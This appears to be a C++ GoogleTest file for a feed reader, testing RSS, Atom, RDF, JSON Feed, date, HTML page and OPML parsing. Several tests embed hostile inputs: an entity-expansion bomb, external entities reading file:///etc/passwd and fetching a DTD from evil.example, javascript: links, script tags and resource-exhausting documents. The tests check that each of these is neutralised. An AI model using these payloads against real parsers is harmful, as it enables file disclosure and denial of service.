// Feeds and pages as they are found in the wild, and as somebody who means harm would write them.

#include "areas/feeds/dates.h"
#include "areas/feeds/opml.h"
#include "areas/feeds/reading.h"
#include "areas/feeds/xml_events.h"

#include <chrono>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace rostrum::feeds {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::SizeIs;

constexpr std::string_view where = "https://blog.example/feed/all.xml";

FoundFeed read(std::string_view bytes, std::string_view type = "application/xml")
{
    auto feed = read_feed(bytes, type, where);
    EXPECT_TRUE(feed) << bytes;
    return feed.value_or(FoundFeed{});
}
FoundItem first(std::string_view bytes, std::string_view type = "application/xml")
{
    const auto feed = read(bytes, type);
    EXPECT_FALSE(feed.items.empty()) << bytes;
    return feed.items.empty() ? FoundItem{} : feed.items.front();
}
std::string rss(std::string_view item, std::string_view head = {})
{
    return "<rss version=\"2.0\"><channel>" + std::string(head) + "<item>" + std::string(item) + "</item></channel></rss>";
}
std::string when(std::string_view date)
{
    const auto at = read_date(date);
    return at ? text(*at) : "none";
}

TEST(ReadFeed, RssSaysWhatItIsCalledAndWhatIsNew)
{
    const auto feed = read(R"(<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
        xmlns:atom="http://www.w3.org/2005/Atom" xmlns:content="http://purl.org/rss/1.0/modules/content/"
        xmlns:media="http://search.yahoo.com/mrss/"><channel>
        <title>Mill &amp; Bakery</title><link>https://blog.example/</link><atom:link rel="self" href="https://blog.example/feed"/>
        <image><title>A picture</title><link>https://other.example/</link></image><ttl>120</ttl>
        <item><title>Rye is &lt;b&gt;back&lt;/b&gt;</title><link>/rye?a=1&amp;b=2</link><guid isPermaLink="false">rye-1</guid>
          <pubDate>Fri, 20 Nov 2026 09:00:00 +0200</pubDate><dc:creator><![CDATA[Ada & Bo]]></dc:creator>
          <media:title>Not this one</media:title><description><![CDATA[<p>With <a href="x">seeds</a></p><script>alert(1)</script>]]></description>
          <content:encoded>All of it</content:encoded></item>
        <item><guid>https://blog.example/spelt</guid><author>bo@mill.example (Bo)</author><description>Spelt, at last</description></item>
        </channel></rss>)");
    EXPECT_EQ(feed.title, "Mill & Bakery");
    EXPECT_EQ(feed.site, "https://blog.example/");
    EXPECT_EQ(feed.asks_for, Duration(120min));
    ASSERT_THAT(feed.items, SizeIs(2));
    EXPECT_EQ(feed.items[0], (FoundItem{.id = "rye-1",
                                        .title = "Rye is back",
                                        .link = "https://blog.example/rye?a=1&b=2",
                                        .summary = "With seeds",
                                        .author = "Ada & Bo",
                                        .published_at = parse_instant("2026-11-20T07:00:00Z")}));
    EXPECT_EQ(feed.items[1], (FoundItem{.id = "https://blog.example/spelt",
                                        .title = "Spelt, at last",
                                        .link = "https://blog.example/spelt",
                                        .summary = "Spelt, at last",
                                        .author = "Bo"}));
}

TEST(ReadFeed, AtomHasLinksOfManyKindsAndTextsOfThree)
{
    const auto feed = read(
        R"(<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example/en/"><title type="html">The &lt;i&gt;mill&lt;/i&gt;</title>
        <link rel="self" href="/feed"/><link href="."/><id>tag:blog</id><author><name>The mill</name></author>
        <entry xml:base="news/"><id>tag:1</id><title>a &lt;b&gt; c</title><link rel="enclosure" href="x.mp3"/><link rel="alternate" type="text/html" href="rye"/>
          <updated>2026-11-21T10:00:00Z</updated><published>2026-11-20T09:00:00+01:00</published>
          <author><name>Ada</name><email>ada@mill.example</email></author>
          <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Warm <title>no title</title><b>rye</b></p></div></content></entry>
        <entry><id>tag:2</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Spelt</div></title><updated>2026-11-22</updated></entry></feed>)");
    EXPECT_EQ(feed.title, "The mill");
    EXPECT_EQ(feed.site, "https://blog.example/en/");
    ASSERT_THAT(feed.items, SizeIs(2));
    EXPECT_EQ(feed.items[0].title, "a <b> c") << "a text is no markup";
    EXPECT_EQ(feed.items[0].link, "https://blog.example/en/news/rye");
    EXPECT_EQ(feed.items[0].summary, "Warm no titlerye");
    EXPECT_EQ(feed.items[0].author, "Ada");
    EXPECT_EQ(text(*feed.items[0].published_at), "2026-11-20T08:00:00Z");
    EXPECT_EQ(feed.items[1].title, "Spelt");
    EXPECT_EQ(text(*feed.items[1].published_at), "2026-11-22T00:00:00Z");
}

TEST(ReadFeed, RdfHasItsItemsOutsideAndOldRssHasNoIds)
{
    const auto rdf = read(R"(<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
        xmlns:sy="http://purl.org/rss/1.0/modules/syndication/" xmlns:dc="http://purl.org/dc/elements/1.1/">
        <channel rdf:about="https://blog.example/"><title>Mill</title><link>https://blog.example/</link>
        <sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency></channel>
        <item rdf:about="urn:1"><title>Rye</title><link>https://blog.example/1</link><dc:date>2026-11-20T09:00Z</dc:date></item></rdf:RDF>)");
    EXPECT_EQ(rdf.title, "Mill");
    EXPECT_EQ(rdf.asks_for, Duration(6h));
    ASSERT_THAT(rdf.items, SizeIs(1));
    EXPECT_EQ(rdf.items[0].id, "urn:1");
    EXPECT_EQ(text(*rdf.items[0].published_at), "2026-11-20T09:00:00Z");
    const auto old = first(
        "<rss "
        "version=\"0.91\"><channel><title>Mill</title><item><title>Rye</title><link>https://blog.example/1</link></item></channel></rss>");
    EXPECT_EQ(old.id, "");
    EXPECT_EQ(old.link, "https://blog.example/1");
}

TEST(ReadFeed, JsonFeedIsAFeedAndOtherJsonIsNone)
{
    const auto feed = read(R"( {"version":"https://jsonfeed.org/version/1.1","title":"Mill","home_page_url":"/","items":[
        {"id":"1","url":"rye","title":"Rye","content_html":"<p>Warm &amp; dark</p>","date_published":"2026-11-20T09:00:00Z","authors":[{"name":"Ada"}]},
        {"id":2,"external_url":"https://other.example/","content_text":"Only words"},"no item",{"id":"3"}]})",
                           "application/feed+json");
    EXPECT_EQ(feed.title, "Mill");
    EXPECT_EQ(feed.site, "https://blog.example/");
    ASSERT_THAT(feed.items, SizeIs(2));
    EXPECT_EQ(feed.items[0], (FoundItem{.id = "1",
                                        .title = "Rye",
                                        .link = "https://blog.example/feed/rye",
                                        .summary = "Warm & dark",
                                        .author = "Ada",
                                        .published_at = parse_instant("2026-11-20T09:00:00Z")}));
    EXPECT_EQ(feed.items[1].id, "2");
    EXPECT_EQ(feed.items[1].title, "Only words");
    EXPECT_FALSE(read_feed(R"({"items":[]})", "application/json", where));
    EXPECT_FALSE(read_feed(std::string(100'000, '{'), "application/json", where));
    EXPECT_FALSE(read_feed("[" + std::string(100'000, '['), "application/json", where));
}

TEST(ReadFeed, WhatIsNoFeedIsNone)
{
    for (const auto* other :
         {"", "  ", "<html><body><item><title>a</title></item></body></html>", "<svg xmlns='http://www.w3.org/2000/svg'/>", "<opml/>",
          "%PDF-1.7", "<feed xmlns='https://else.example'/>", "\xff\xfe"})
        EXPECT_FALSE(read_feed(other, "application/xml", where)) << other;
}

TEST(ReadFeed, NoEntityIsEverLookedUp)
{
    const auto bomb =
        first("<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">"
              "<!ENTITY file SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"https://evil.example/x.dtd\">%p;]>" +
              rss("<title>&c; &file; &amp;</title><link>https://blog.example/1</link>"));
    EXPECT_EQ(bomb.title, "&c; &file; &");
    EXPECT_EQ(first(rss("<title>Caf&eacute;&nbsp;au lait &hellip; R&B &#233;</title>")).title, "Café au lait … R&B é")
        << "letters of HTML are read, though XML knows none of them";
}

TEST(ReadFeed, GoesOnPastWhatIsBroken)
{
    const auto feed =
        read("\n <rss><channel><title>A & B</title><item><title>One &amp; <b>two</title><link>https://blog.example/1</link></item>"
             "<item><title>Three\x01 &amp; four</title><link>https://blog.example/2</link></item>");
    ASSERT_THAT(feed.items, SizeIs(2));
    EXPECT_EQ(feed.title, "A & B");
    EXPECT_THAT(feed.items[0].title, HasSubstr("One &"));
    EXPECT_EQ(feed.items[1].title, "Three & four");
    EXPECT_EQ(
        first("<rss><channel><item><dc:date>2026-11-20</dc:date><title>No namespace is declared</title></item></channel></rss>").title,
        "No namespace is declared");
}

TEST(ReadFeed, IsNotToBeWornOut)
{
    std::string many = "<rss><channel>";
    for (int i = 0; i < 5000; ++i)
        many += "<item><title>" + std::to_string(i) + "</title></item>";
    EXPECT_THAT(read(many).items, SizeIs(most_read));
    std::string deep = rss("<title>Before</title>");
    deep.insert(deep.find("</channel>"), "<x>" + std::string(4'000'000, ' '));
    for (int i = 0; i < 1'000'000; ++i)
        deep += "<a>";
    const auto began = std::chrono::steady_clock::now();
    EXPECT_THAT(read(deep).items, SizeIs(1)) << "what came before the depths is kept";
    EXPECT_THAT(first(rss("<title>" + std::string(8'000'000, 'a') + "</title>")).title.size(), testing::Le(most_title * 4 + 4));
    EXPECT_LT(std::chrono::steady_clock::now() - began, 20s);
}

TEST(ReadFeed, SpeaksEveryEncodingThatSaysWhichItIs)
{
    const std::string cyrillic = "\xD5\xEB\xE5\xE1"; // in windows-1251
    EXPECT_EQ(first("<?xml version='1.0' encoding='windows-1251'?>" + rss("<title>" + cyrillic + "</title>")).title, "Хлеб");
    EXPECT_EQ(
        first("<?xml version='1.0' encoding='windows-1251'?>" + rss("<title>" + cyrillic + "</title>"), "text/xml; charset=utf-8").title,
        "Хлеб")
        << "the document knows better than the server";
    EXPECT_EQ(first(rss("<title>" + cyrillic + "</title>"), "text/xml; charset=windows-1251").title, "Хлеб");
    EXPECT_EQ(first("\xEF\xBB\xBF" + rss("<title>Käse</title>")).title, "Käse");
    std::string wide = "\xFF\xFE";
    for (const char letter : "<?xml version='1.0' encoding='UTF-16'?>" + rss("<title>Rye</title>"))
        wide += std::string{letter, '\0'};
    EXPECT_EQ(first(wide).title, "Rye");
    EXPECT_EQ(first(wide.substr(2)).title, "Rye");
    EXPECT_EQ(first("<?xml version='1.0' encoding='utf-8'?>" + rss("<title>K\xE4se</title>")).title, "Käse") << "said wrongly, as many do";
    EXPECT_EQ(first("<?xml version='1.0' encoding='no-such-thing'?>" + rss("<title>Käse</title>")).title, "Käse");
}

TEST(ReadFeed, LeadsNowhereButToTheWeb)
{
    for (const auto* evil : {"javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "mailto:ada@mill.example"})
        EXPECT_EQ(first(rss("<title>A</title><link>" + std::string(evil) + "</link>")).link, "") << evil;
    EXPECT_EQ(first(rss("<title>A</title><link>//cdn.example/x y</link>")).link, "https://cdn.example/x%20y");
    EXPECT_EQ(first(rss("<title>A\xE2\x80\xAE evil</title>")).title, "A evil") << "nothing turns the words around it";
}

TEST(ReadDate, TakesWhatFeedsWrite)
{
    EXPECT_EQ(when("Fri, 20 Nov 2026 09:00:00 GMT"), "2026-11-20T09:00:00Z");
    EXPECT_EQ(when(" 20 Nov 26 09:00 EST\n"), "2026-11-20T14:00:00Z");
    EXPECT_EQ(when("Friday, 20-Nov-26 09:00:00 -0500"), "2026-11-20T14:00:00Z");
    EXPECT_EQ(when("Fri, 20 November 2026"), "2026-11-20T00:00:00Z");
    EXPECT_EQ(when("Nov 20, 2026 09:00:00 +05:30"), "2026-11-20T03:30:00Z");
    EXPECT_EQ(when("2026-11-20T09:00:00.123+0100"), "2026-11-20T08:00:00Z");
    EXPECT_EQ(when("2026-11-20 09:00"), "2026-11-20T09:00:00Z");
    EXPECT_EQ(when("2026-11"), "2026-11-01T00:00:00Z");
    for (const auto* none : {"", "soon", "2026-13-01", "30 Feb 2026", "99999999999999999999", "0000-00-00T00:00:00Z", "2026-11-20T99:00Z"})
        EXPECT_EQ(when(none), "none") << none;
}

TEST(ReadPage, HasItsLinksEachOnceAndTheFeedsItNames)
{
    const auto page = read_page(R"(<title>The mill</title><link rel="alternate" type="application/rss+xml" title="News" href="/feed">
        <link rel=alternate type=application/json+oembed href=/oembed><link rel="alternate" type="application/atom+xml" href="/atom">
        <link rel="alternate" type="application/rss+xml" href="/feed"><base href="/news/">
        <a href="rye"><img alt="A loaf"></a><a href="rye">Rye is <b>back</b> for the winter</a><a href="rye#more">Read more</a>
        <a href="https://other.example/">Elsewhere</a><a href="https://www.blog.example/spelt">Spelt</a><a href="/">»</a>
        <a href="#top">To the top</a><a href="/feed/all.xml">This page</a><a href="javascript:void 0">Press</a><a>Nothing</a>
        <script>"<a href='/script'>In a script</a>"</script>)",
                                "text/html", where);
    EXPECT_EQ(page.title, "The mill");
    EXPECT_THAT(page.feeds, ElementsAre(NamedAddress{"https://blog.example/feed", "News"}, NamedAddress{"https://blog.example/atom", ""}));
    EXPECT_THAT(page.links,
                ElementsAre(FoundItem{.id = "https://blog.example/news/rye",
                                      .title = "Rye is back for the winter",
                                      .link = "https://blog.example/news/rye"},
                            FoundItem{.id = "https://www.blog.example/spelt", .title = "Spelt", .link = "https://www.blog.example/spelt"}));
    EXPECT_THAT(read_page("no page", "text/html", where).links, IsEmpty());
}

TEST(ReadPage, OfAHundredMegabytesIsReadAsFarAsItMakesSense)
{
    std::string huge = "<a href='/rye'>Rye bread</a>";
    huge.append(100'000'000, '<');
    const auto began = std::chrono::steady_clock::now();
    EXPECT_THAT(read_page(huge, "text/html", where).links, SizeIs(1));
    EXPECT_LT(std::chrono::steady_clock::now() - began, 20s);
}

TEST(Opml, GoesRoundWithItsFolders)
{
    const auto list = read_opml(R"(<?xml version="1.0"?><opml version="2.0"><head><title>Mine</title></head><body>
        <outline text="Bread"><outline type="rss" text="Mill &amp; Co" xmlUrl="https://mill.example/feed?a=1&amp;b=2" htmlUrl="https://mill.example/"/></outline>
        <outline title="Spelt" text="no" xmlUrl="https://spelt.example/rss"/><outline text="no address"/></body></opml>)");
    ASSERT_TRUE(list);
    EXPECT_THAT(*list, ElementsAre(NamedAddress{"https://mill.example/feed?a=1&b=2", "Mill & Co"},
                                   NamedAddress{"https://spelt.example/rss", "Spelt"}));
    const auto written =
        write_opml("Ada's <bakery>", {{.address = (*list)[0].address, .title = "\"Mill\" & Co", .site = "https://mill.example/"},
                                      {.address = "https://spelt.example/rss", .title = "Spelt", .site = ""}});
    EXPECT_THAT(*read_opml(written), ElementsAre(NamedAddress{"https://mill.example/feed?a=1&b=2", "\"Mill\" & Co"},
                                                 NamedAddress{"https://spelt.example/rss", "Spelt"}));
    EXPECT_THAT(written, HasSubstr("htmlUrl=\"https://mill.example/\""));
    EXPECT_THAT(written, Not(HasSubstr("htmlUrl=\"\"")));
    EXPECT_FALSE(read_opml("<rss/>"));
    EXPECT_FALSE(read_opml("no list"));
}

} // namespace
} // namespace rostrum::feeds
